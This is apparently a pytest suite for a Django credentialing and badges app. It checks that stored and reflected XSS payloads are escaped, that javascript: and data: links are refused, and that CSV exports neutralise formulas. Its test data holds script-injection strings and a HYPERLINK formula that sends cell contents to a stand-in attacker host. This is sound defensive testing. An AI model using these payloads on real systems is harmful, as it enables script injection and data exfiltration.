"""XSS: every text a user controls (names, catalog text, responses, review feedback and
comments, roster names, the badge's evidence summary) is stored as a payload; every page that
shows it must escape it. Reflected input (search, verify) too. Links keep web schemes only."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from tests.support.cast import Cast
from tests.support.poisoned import (
    ESCAPED,
    JS_URL,
    PAYLOAD,
    assert_escaped,
    complete_with_feedback,
    poison,
)

pytestmark = pytest.mark.django_db


def _get(client: Client, user: Any, path: str, **params: str) -> str:
    client.logout()
    if user is not None:
        client.force_login(user)
    response = client.get(path, params)
    assert response.status_code in (200, 400), (path, response.status_code)  # 400: confirm
    return response.content.decode()


def test_stored_payloads_are_escaped_on_every_page_that_shows_them(cast: Cast) -> None:
    world = poison(cast)
    client = Client()
    sub, review, badge = world.submission, world.review, world.badge
    history = reverse(
        "submissions:response_history",
        args=[sub.public_id, sub.version.requirements.filter(kind="text").first().public_id],
    )
    before_decision = {
        # catalog text, as anyone sees it
        "catalog list": (None, reverse("credentials:catalog")),
        "catalog detail": (None, reverse("credentials:detail", args=[world.credential.slug])),
        "authoring overview": (
            cast.author,
            reverse("credentials:authoring_credential", args=[world.credential.public_id]),
        ),
        "authoring preview": (
            cast.author,
            reverse(
                "credentials:authoring_preview", args=[world.credential.published_version.public_id]
            ),
        ),
        # the reviewer's workspace: responses, prompts, rubric, comment, file name
        "review page": (cast.reviewer, reverse("reviews:review", args=[review.public_id])),
        "review confirm": (cast.reviewer, reverse("reviews:confirm", args=[review.public_id])),
        "review queue": (cast.reviewer, reverse("reviews:queue")),
        # the educator's own pages and names in the header
        "home": (cast.educator, reverse("home")),
        "profile form": (cast.educator, reverse("profile")),
        "response history": (cast.educator, history),
        "artifact fragment": (
            cast.educator,
            reverse("submissions:artifact_status", args=[sub.artifacts.get().public_id]),
        ),
        # badges, public
        "badge page": (None, reverse("badges:detail", args=[badge.public_id])),
        "badge evidence": (None, reverse("badges:evidence", args=[badge.public_id])),
        "my badges": (cast.educator, reverse("badges:mine")),
        # the district admin's pages: names of staff, roster org and people names
        "dashboard": (cast.district_admin, reverse("organizations:dashboard")),
        "transcript": (
            cast.district_admin,
            reverse("organizations:transcript", args=[cast.educator.public_id]),
        ),
        "roster preview": (
            cast.district_admin,
            reverse("organizations:roster_preview", args=[world.roster_import.public_id]),
        ),
        "assignments": (cast.district_admin, reverse("organizations:assignments")),
    }
    for where, (user, url) in before_decision.items():
        # An assertion per page, in one test: building the world once keeps the suite fast.
        assert_escaped(_get(client, user, url), where)

    complete_with_feedback(world, cast)
    detail = _get(client, cast.educator, reverse("submissions:detail", args=[sub.public_id]))
    assert_escaped(detail, "submission page with the reviewer's feedback")
    assert detail.count(ESCAPED) >= 3  # responses, feedback per criterion, overall feedback
    assert_escaped(_get(client, cast.educator, reverse("submissions:mine")), "my submissions")


def test_team_pages_escape_names_and_shared_answers(cast: Cast) -> None:
    """The invitation list, the team panel and a member's view of the shared answers."""
    from accounts.services import user_update_profile
    from submissions import teams
    from tests.support.teams import invitation, team_credential, write

    for user in (cast.educator, cast.colleague):
        user_update_profile(user=user, display_name=f"{PAYLOAD} {user.email}")
    credential = team_credential(cast.issuer, "xss-team")
    lead = teams.team_start(
        lead=cast.educator, credential=credential, emails=[cast.colleague.email]
    )
    client = Client()
    invitations = _get(client, cast.colleague, reverse("submissions:team_invitations"))
    assert_escaped(invitations, "team invitations")
    assert ESCAPED in invitations  # the lead's name
    mine = teams.membership_accept(membership=invitation(lead, cast.colleague), by=cast.colleague)
    write(lead, "Team plan", PAYLOAD, cast.educator)
    for user, submission in ((cast.educator, lead), (cast.colleague, mine)):
        page = _get(client, user, reverse("submissions:detail", args=[submission.public_id]))
        assert_escaped(page, f"team workspace of {user.email}")
        assert page.count(ESCAPED) >= 2  # a member's name in the panel, the shared answer


def test_a_javascript_resource_link_is_never_a_link(cast: Cast) -> None:
    world = poison(cast)
    html = _get(Client(), None, reverse("credentials:detail", args=[world.credential.slug]))
    assert JS_URL in html  # shown as inert text
    assert f'href="{JS_URL}' not in html and "href='javascript" not in html


def test_the_authoring_form_refuses_a_javascript_resource(cast: Cast) -> None:
    from django.core.exceptions import ValidationError

    from credentials.forms import parse_resources

    for url in (JS_URL, "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x"):
        with pytest.raises(ValidationError):
            parse_resources(f"Title | {url}")


@pytest.mark.parametrize(
    ("name", "param"),
    [("credentials:catalog", "q"), ("badges:verify", "url"), ("credentials:catalog", "page")],
)
def test_reflected_input_is_escaped(client: Client, db: None, name: str, param: str) -> None:
    html = _get(client, None, reverse(name), **{param: PAYLOAD})
    lowered = html.lower()
    assert "<img src=x" not in lowered and "<script>alert(1)" not in lowered


def test_exports_never_hand_a_spreadsheet_a_formula(cast: Cast) -> None:
    from accounts.services import user_update_profile

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    user_update_profile(user=cast.educator, display_name=formula)
    client = Client()
    client.force_login(cast.district_admin)
    response = client.get(reverse("organizations:export_progress", args=["csv"]))
    body = b"".join(response.streaming_content).decode()
    assert "HYPERLINK" in body  # the name is exported...
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@")), cell  # ...as text, never as a formula
